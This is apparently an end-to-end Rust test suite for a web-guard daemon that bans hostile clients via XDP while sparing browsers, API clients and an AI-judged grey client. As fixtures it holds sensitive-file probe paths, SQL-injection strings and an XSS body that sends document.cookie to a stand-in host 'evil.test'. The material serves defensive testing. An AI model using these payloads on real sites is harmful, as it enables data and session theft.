//! End to end for the engine: scripted hostile clients across a veth pair, seen through the real
//! tap, judged by the validator and the engine, banned into XDP — and benign clients beside them
//! that are never banned. Prints the time from the first hostile request to the ban.
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use guard_tests::ai_server::{AiServer, Answer};
use guard_tests::http::{Client, start_server};
use guard_tests::{Daemon, Link, require_root, tcp_ok, wait_until};

const PORT: u16 = 8080;

/// A veth pair with the test HTTP server on the near side and guard watching it, with `extra`
/// config appended.
fn setup(extra: &str) -> anyhow::Result<(Link, Daemon, SocketAddr)> {
    setup_on(Link::new()?, extra)
}

/// Like [`setup`] for a test that runs alone: it floods, or its benign clients must get every
/// answer within a timeout that a neighbour's flood would stretch.
fn setup_alone(extra: &str) -> anyhow::Result<(Link, Daemon, SocketAddr)> {
    setup_on(Link::exclusive()?, extra)
}

fn setup_on(link: Link, extra: &str) -> anyhow::Result<(Link, Daemon, SocketAddr)> {
    start_server(&link.near, PORT)?;
    let d = Daemon::start(
        &link.near,
        &link.near_if,
        &format!("[tap]\nhttp_ports = [{PORT}]\n{extra}"),
    )?;
    let dst = SocketAddr::new(link.near_v4, PORT);
    Ok((link, d, dst))
}

/// The ban of `addr` in `guard ban ls`, if any. A CLI that fails fails the test: read as "not
/// banned", it would pass every check that a benign client was left alone.
fn banned(d: &Daemon, addr: IpAddr) -> Option<serde_json::Value> {
    let list = d
        .json(&["ban", "ls"])
        .unwrap_or_else(|e| panic!("guard ban ls: {e:#}"));
    list.as_array()
        .unwrap_or_else(|| panic!("ban ls is not a list: {list}"))
        .iter()
        .find(|b| b["addr"] == addr.to_string())
        .cloned()
}

/// Sends `paths` one per connection from `src` until the client is cut off, while watching
/// `guard ban ls`; returns how many requests got an answer and the time from the first request
/// to the ban (None: never banned).
fn attack(
    link: &Link,
    d: &Daemon,
    src: IpAddr,
    dst: SocketAddr,
    paths: Vec<String>,
    agent: &'static str,
) -> (usize, Option<Duration>) {
    let requests = paths
        .into_iter()
        .map(|path| {
            format!("GET {path} HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: {agent}\r\n\r\n")
        })
        .collect();
    attack_raw(link, d, src, dst, requests, Duration::ZERO)
}

/// Like [`attack`] with whole requests, `pause` apart.
fn attack_raw(
    link: &Link,
    d: &Daemon,
    src: IpAddr,
    dst: SocketAddr,
    requests: Vec<String>,
    pause: Duration,
) -> (usize, Option<Duration>) {
    let ns = link.far.path();
    let start = Instant::now();
    let client = std::thread::spawn(move || {
        let _ = guard_tests::enter(&ns);
        let mut answered = 0;
        for req in requests {
            std::thread::sleep(pause);
            let Some(s) = guard_tests::connect_from(src, dst, Duration::from_secs(1)) else {
                break;
            };
            let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
            let mut c = Client { stream: s };
            if c.send(req.as_bytes())
                .and_then(|()| c.responses(1))
                .is_err()
            {
                break;
            }
            answered += 1;
        }
        answered
    });
    let t =
        wait_until(Duration::from_secs(10), || banned(d, src).is_some()).map(|_| start.elapsed());
    let answered = client.join().expect("the client thread panicked");
    (answered, t)
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one scenario: three attackers and a reader at once, then the checks"
)]
fn hostile_clients_are_banned_into_xdp_and_benign_ones_are_not() -> anyhow::Result<()> {
    require_root!();
    let (link, mut d, dst) = setup_alone("")?;
    let scanner = link.far_v4;
    let prober = link.add_far_v4(30)?;
    let sqli = link.add_far_v4(31)?;
    let xss = link.add_far_v4(32)?;
    let reader = link.add_far_v4(40)?;

    // A benign reader pages through /items slowly, all along.
    let reader_ns = link.far.path();
    let benign = std::thread::spawn(move || -> usize {
        let _ = guard_tests::enter(&reader_ns);
        let mut ok = 0;
        for i in 1..=20 {
            let req = format!(
                "GET /items/{i} HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0\r\nCookie: s=1\r\n\r\n"
            );
            if let Some(mut s) = guard_tests::connect_from(reader, dst, Duration::from_secs(2)) {
                use std::io::{Read, Write};
                let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                let mut buf = [0u8; 512];
                if s.write_all(req.as_bytes()).is_ok() && s.read(&mut buf).is_ok_and(|n| n > 0) {
                    ok += 1;
                }
            }
            std::thread::sleep(Duration::from_millis(150));
        }
        ok
    });

    let mut report = Vec::new();
    // A sensitive-file prober.
    let files: Vec<String> = [
        "/.env",
        "/.git/config",
        "/wp-admin/",
        "/backup.sql",
        "/.aws/credentials",
        "/config.php.bak",
        "/.htpasswd",
        "/phpinfo.php",
    ]
    .iter()
    .map(|p| (*p).to_owned())
    .collect();
    let (_, t) = attack(&link, &d, prober, dst, files, "curl/8.0");
    report.push(("sensitive-file prober", t));
    // A path scanner: hundreds of distinct paths, mostly 404.
    let paths: Vec<String> = (0..300).map(|i| format!("/scan/{i}/index.html")).collect();
    let (answered, t) = attack(
        &link,
        &d,
        scanner,
        dst,
        paths,
        "Mozilla/5.0 (compatible; scanner)",
    );
    report.push(("path scanner", t));
    // SQL injection in the query string.
    let attacks: Vec<String> = (0..10)
        .map(|i| format!("/items?id={i}%27%20UNION%20SELECT%20password%20FROM%20users--"))
        .collect();
    let (_, t) = attack(&link, &d, sqli, dst, attacks, "sqlmap/1.7");
    report.push(("sqli in query", t));
    // XSS in a form body.
    let body = "name=x&comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.test%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E";
    let posts = (0..10)
        .map(|_| {
            format!(
                "POST /comments HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            )
        })
        .collect();
    let (_, t) = attack_raw(&link, &d, xss, dst, posts, Duration::ZERO);
    report.push(("xss in body", t));

    for ((name, t), addr) in report.iter().zip([prober, scanner, sqli, xss]) {
        let reason = banned(&d, addr)
            .map(|b| b["reason"].to_string())
            .unwrap_or_default();
        println!(
            "time from first hostile request to ban: {name}: {} ({reason})",
            t.map_or("not banned".into(), |t| format!("{} ms", t.as_millis()))
        );
    }
    for (name, t) in &report {
        assert!(t.is_some(), "{name} was not banned: {}", d.log_text());
    }
    assert!(answered < 300, "the scanner was cut off before finishing");
    // Banned means dropped by XDP: new connections fail, and the ban counters move.
    for addr in [scanner, prober, sqli, xss] {
        assert!(
            !tcp_ok(&link.far, Some(addr), dst, Duration::from_millis(300)),
            "{addr} still connects"
        );
        let ban = banned(&d, addr).expect("ban");
        assert_eq!(ban["origin"], "engine");
        assert!(
            ban["packets"].as_u64() >= Some(1),
            "no drops counted for {addr}: {ban}"
        );
        assert!(!ban["evidence"].is_null(), "ban without evidence: {ban}");
    }
    let ok = benign
        .join()
        .map_err(|_| anyhow::anyhow!("reader panicked"))?;
    assert_eq!(ok, 20, "the benign reader must get every page");
    assert!(banned(&d, reader).is_none(), "the benign reader was banned");
    assert!(tcp_ok(
        &link.far,
        Some(reader),
        dst,
        Duration::from_millis(500)
    ));
    let blocked = d
        .cli(&["logs", "--json", "--blocked"])
        .map_err(anyhow::Error::msg)?;
    assert!(
        blocked.lines().count() >= 3,
        "hostile requests are marked blocked in the log"
    );
    // The operator lifts the SQL injector's ban, keeping its history; it attacks again and is
    // banned again, as a second offence.
    d.cli(&["ban", "rm", &sqli.to_string(), "--keep-history"])
        .map_err(anyhow::Error::msg)?;
    assert!(tcp_ok(
        &link.far,
        Some(sqli),
        dst,
        Duration::from_millis(500)
    ));
    let again: Vec<String> = (0..10)
        .map(|i| format!("/items?id={i}%27%20OR%201%3D1--"))
        .collect();
    let (_, t) = attack(&link, &d, sqli, dst, again.clone(), "sqlmap/1.7");
    assert!(
        t.is_some(),
        "an attacker whose ban was lifted was not banned again"
    );
    let offence = |d: &Daemon| banned(d, sqli).map(|b| b["evidence"]["offence"].clone());
    assert_eq!(offence(&d), Some(serde_json::json!(2)), "second offence");
    // Repeat offenders outlive a restart: lifted again after one, the third ban escalates.
    d.stop()?;
    d.spawn()?;
    // Lifted by filter this time: the engine forgets it the same way.
    d.cli(&["ban", "rm", "--ip", &sqli.to_string(), "--keep-history"])
        .map_err(anyhow::Error::msg)?;
    let (_, t) = attack(&link, &d, sqli, dst, again, "sqlmap/1.7");
    assert!(t.is_some(), "not banned after the restart");
    assert_eq!(
        offence(&d),
        Some(serde_json::json!(3)),
        "the offence count was lost in the restart"
    );
    Ok(())
}

/// A benign client: `requests` (path, pause after) from `src`, each on its own connection, with
/// browser-like headers; returns how many got a 2xx/3xx/4xx answer.
fn browse(
    link: &Link,
    src: IpAddr,
    dst: SocketAddr,
    requests: Vec<(String, Duration)>,
    extra: &'static str,
) -> std::thread::JoinHandle<usize> {
    let ns = link.far.path();
    std::thread::spawn(move || {
        let _ = guard_tests::enter(&ns);
        let mut ok = 0;
        for (path, pause) in requests {
            let req = format!(
                "GET {path} HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\nReferer: http://guard.test/\r\n{extra}\r\n"
            );
            if let Some(s) = guard_tests::connect_from(src, dst, Duration::from_secs(2)) {
                let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                let mut c = Client { stream: s };
                if c.send(req.as_bytes())
                    .and_then(|()| c.responses(1))
                    .is_ok_and(|s| s.first().is_some_and(|s| *s < 500))
                {
                    ok += 1;
                }
            }
            std::thread::sleep(pause);
        }
        ok
    })
}

#[test]
fn brute_force_enumeration_and_floods_are_banned_while_browsers_and_api_clients_are_not()
-> anyhow::Result<()> {
    require_root!();
    let (link, d, dst) = setup_alone("")?;
    let (brute, enumerator, flooder) = (
        link.add_far_v4(50)?,
        link.add_far_v4(51)?,
        link.add_far_v4(52)?,
    );
    let (browser, api, typo) = (
        link.add_far_v4(60)?,
        link.add_far_v4(61)?,
        link.add_far_v4(62)?,
    );

    // Benign clients run all along: a browser loading two pages with their assets, an API
    // client polling with a token, a user who mistypes a few URLs.
    let mut page = vec![("/".to_owned(), Duration::ZERO)];
    for i in 0..30 {
        let ext = ["js", "css", "png", "woff2"][i % 4];
        page.push((format!("/static/asset{i}.{ext}"), Duration::ZERO));
    }
    page.push(("/about".to_owned(), Duration::from_millis(500)));
    page.extend((30..45).map(|i| (format!("/static/asset{i}.png"), Duration::ZERO)));
    let b = browse(&link, browser, dst, page, "Cookie: session=abc\r\n");
    let a = browse(
        &link,
        api,
        dst,
        (0..20)
            .map(|_| ("/api/v1/status".to_owned(), Duration::from_millis(150)))
            .collect(),
        "Authorization: Bearer t0ken\r\n",
    );
    let t = browse(
        &link,
        typo,
        dst,
        [
            "/",
            "/prodcts",
            "/products",
            "/missing/abuot",
            "/about",
            "/contcat",
            "/contact",
        ]
        .iter()
        .map(|p| ((*p).to_owned(), Duration::from_millis(200)))
        .collect(),
        "",
    );

    let mut report = Vec::new();
    let logins = (0..15)
        .map(|i| format!("POST /login HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: python-requests/2.31\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\nuser=admin&pass=guess{i:04}", 24))
        .collect();
    report.push((
        "login brute force",
        brute,
        attack_raw(&link, &d, brute, dst, logins, Duration::from_millis(20)).1,
    ));
    let ids = (1..=80).map(|i| format!("GET /api/users/{i} HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: python-requests/2.31\r\n\r\n")).collect();
    report.push((
        "sequential-ID enumerator",
        enumerator,
        attack_raw(&link, &d, enumerator, dst, ids, Duration::from_millis(30)).1,
    ));
    // A flood of one page answered 200: past the flood bound (500 requests in 10 s), since a
    // high rate of successful requests alone is only rate-limited (`rate_profile`).
    let flood = (0..1500)
        .map(|_| "GET / HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n".to_owned())
        .collect();
    report.push((
        "HTTP flood",
        flooder,
        attack_raw(&link, &d, flooder, dst, flood, Duration::ZERO).1,
    ));

    for (name, addr, t) in &report {
        let reason = banned(&d, *addr)
            .map(|b| b["reason"].to_string())
            .unwrap_or_default();
        println!(
            "time from first hostile request to ban: {name}: {} ({reason})",
            t.map_or("not banned".into(), |t| format!("{} ms", t.as_millis()))
        );
    }
    for (name, addr, t) in &report {
        assert!(t.is_some(), "{name} was not banned");
        assert!(
            !tcp_ok(&link.far, Some(*addr), dst, Duration::from_millis(300)),
            "{name} still connects"
        );
    }
    let (b, a, t) = (
        b.join().unwrap_or(0),
        a.join().unwrap_or(0),
        t.join().unwrap_or(0),
    );
    assert_eq!((b, a, t), (47, 20, 7), "every benign request answered");
    for addr in [browser, api, typo] {
        assert!(
            banned(&d, addr).is_none(),
            "benign client {addr} banned: {:?}",
            banned(&d, addr)
        );
    }
    Ok(())
}

/// A grey client: past the grace period, a script user agent, unauthenticated, 20+ requests in
/// 10 s on one page — grey score 6, between the AI threshold (4) and the hard block (8).
fn grey_client(link: &Link, d: &Daemon, src: IpAddr, dst: SocketAddr) -> Option<Duration> {
    let requests = (0..26)
        .map(|_| {
            "GET /catalog HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: curl/8.4.0\r\n\r\n".to_owned()
        })
        .collect();
    attack_raw(link, d, src, dst, requests, Duration::from_millis(40)).1
}

/// The daemon's settings for a model server at 127.0.0.1:18181 (no retries, no cache).
const AI_CONFIG: &str = "\n[ai]\nenabled = true\nbase_url = \"http://127.0.0.1:18181/v1\"\nmodel = \"test\"\n\
     response_format = \"json_object\"\nmax_retries = 0\nrequest_timeout_ms = 2000\nbreaker_failures = 100\ncache_ttl_secs = 0\n";

/// The judge's counters (`guard stats`, section `engine`).
fn judge_stats(d: &Daemon) -> serde_json::Value {
    let stats = d
        .json(&["stats"])
        .unwrap_or_else(|e| panic!("guard stats: {e:#}"));
    assert!(stats["engine"].is_object(), "no engine section: {stats}");
    stats["engine"].clone()
}

/// How much each of `names` moved between two snapshots of [`judge_stats`]; a counter missing
/// from either fails the test (read as 0, it would pass every "did not move").
fn moved(before: &serde_json::Value, after: &serde_json::Value, names: &[&str]) -> Vec<u64> {
    let get = |s: &serde_json::Value, n: &str| {
        s[n].as_u64()
            .unwrap_or_else(|| panic!("no counter {n} in {s}"))
    };
    names
        .iter()
        .map(|n| get(after, n).saturating_sub(get(before, n)))
        .collect()
}

#[test]
fn grey_clients_are_banned_only_on_an_ai_block() -> anyhow::Result<()> {
    require_root!();
    // The daemon asks the model only once a client turns grey: the server may start after it.
    let (link, d, dst) = setup(AI_CONFIG)?;
    let ai = AiServer::start(&link.near, 18_181)?;

    // The model says BLOCK: the grey client is banned, through the engine, into XDP.
    ai.answer(Answer::Block);
    let blocked = link.add_far_v4(70)?;
    let before = judge_stats(&d);
    let t = grey_client(&link, &d, blocked, dst);
    assert!(
        t.is_some(),
        "AI BLOCK did not ban: {} / {}",
        judge_stats(&d),
        d.log_text()
    );
    println!(
        "grey client judged BLOCK by the AI: banned {} ms after its first request ({})",
        t.map_or(0, |t| t.as_millis()),
        banned(&d, blocked)
            .map(|b| b["reason"].to_string())
            .unwrap_or_default()
    );
    assert!(!tcp_ok(
        &link.far,
        Some(blocked),
        dst,
        Duration::from_millis(300)
    ));
    assert!(ai.calls() >= 1);
    let counters = ["ai_block", "ai_allow", "ai_unsure"];
    let [block, _, _] = moved(&before, &judge_stats(&d), &counters)[..] else {
        unreachable!("three counters")
    };
    assert!(block >= 1, "the BLOCK answer was not counted");
    // The engine's own counters and the AI client's are shown too (JSON and text), and moved.
    let stats = d.json(&["stats"])?;
    let (core, client) = (&stats["engine_core"], &stats["ai"]);
    for (section, name) in [
        (core, "requests"),
        (core, "bans"),
        (core, "ai_bans"),
        (core, "triages"),
    ] {
        assert!(
            section[name].as_u64() >= Some(1),
            "engine_core.{name}: {stats}"
        );
    }
    assert!(core["rules"]["ai_verdict"].as_u64() >= Some(1), "{stats}");
    for name in ["submitted", "calls", "answered"] {
        assert!(client[name].as_u64() >= Some(1), "ai.{name}: {stats}");
    }
    let text = d.cli(&["stats"]).map_err(anyhow::Error::msg)?;
    for row in [
        "engine_core.ai_bans",
        "ai.answered",
        "engine.ai_block",
        "capture_restarts",
    ] {
        assert!(text.contains(row), "no {row} in guard stats:\n{text}");
    }

    // ALLOW and a failing model leave grey clients alone; only their own counter moves.
    for (answer, host, counter) in [(Answer::Allow, 71, 1), (Answer::ServerError, 72, 2)] {
        ai.answer(answer);
        let client = link.add_far_v4(host)?;
        let (calls, before) = (ai.calls(), judge_stats(&d));
        assert!(
            grey_client(&link, &d, client, dst).is_none(),
            "{answer:?} must not ban: {:?}",
            banned(&d, client)
        );
        assert!(ai.calls() > calls, "{answer:?}: the model was not asked");
        let after = judge_stats(&d);
        let deltas = moved(&before, &after, &counters);
        assert!(deltas[counter] >= 1, "{answer:?} not counted: {after}");
        assert_eq!(deltas[0], 0, "{answer:?} counted as a BLOCK: {after}");
        assert!(tcp_ok(
            &link.far,
            Some(client),
            dst,
            Duration::from_millis(500)
        ));
    }
    Ok(())
}

/// The README's "an AI that drops the connection changes nothing": the model server accepts
/// each call and hangs up without a word. The grey client is not banned and every one of its
/// requests is answered, the judge counts the call as unsure, and the hard rules still ban a
/// hostile client as they do with no AI at all.
#[test]
fn an_ai_that_drops_the_connection_changes_nothing() -> anyhow::Result<()> {
    require_root!();
    let (link, d, dst) = setup(AI_CONFIG)?;
    let ai = AiServer::start(&link.near, 18_181)?;
    ai.answer(Answer::Down);
    let grey = link.add_far_v4(73)?;
    let before = judge_stats(&d);
    let requests = (0..26)
        .map(|_| {
            "GET /catalog HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: curl/8.4.0\r\n\r\n".to_owned()
        })
        .collect();
    let (answered, t) = attack_raw(&link, &d, grey, dst, requests, Duration::from_millis(40));
    assert!(t.is_none(), "banned: {:?}", banned(&d, grey));
    assert_eq!(answered, 26, "every request of the grey client answered");
    assert!(
        ai.calls() >= 1,
        "the model was never asked: {}",
        judge_stats(&d)
    );
    let after = judge_stats(&d);
    let deltas = moved(
        &before,
        &after,
        &["ai_asked", "ai_block", "ai_allow", "ai_unsure"],
    );
    assert!(deltas[0] >= 1, "no triage asked the AI: {after}");
    assert_eq!(
        &deltas[1..3],
        &[0, 0],
        "a dropped call read as an answer: {after}"
    );
    assert!(
        deltas[3] >= 1,
        "the dropped call is not counted unsure: {after}"
    );
    let stats = d.json(&["stats"])?;
    assert!(
        stats["ai"]["failed"].as_u64() >= Some(1) && stats["ai"]["answered"].as_u64() == Some(0),
        "the AI client did not count the failed call: {stats}"
    );
    assert!(
        tcp_ok(&link.far, Some(grey), dst, Duration::from_millis(500)),
        "the grey client's traffic stopped"
    );
    // The rest of the engine is unchanged: an SQL injector is banned by the validator.
    let sqli = link.add_far_v4(74)?;
    let attacks = (0..10)
        .map(|i| format!("/items?id={i}%27%20UNION%20SELECT%20password%20FROM%20users--"))
        .collect();
    let (_, t) = attack(&link, &d, sqli, dst, attacks, "sqlmap/1.7");
    assert!(
        t.is_some(),
        "a hostile client was not banned while the AI is down"
    );
    assert!(!tcp_ok(
        &link.far,
        Some(sqli),
        dst,
        Duration::from_millis(300)
    ));
    Ok(())
}
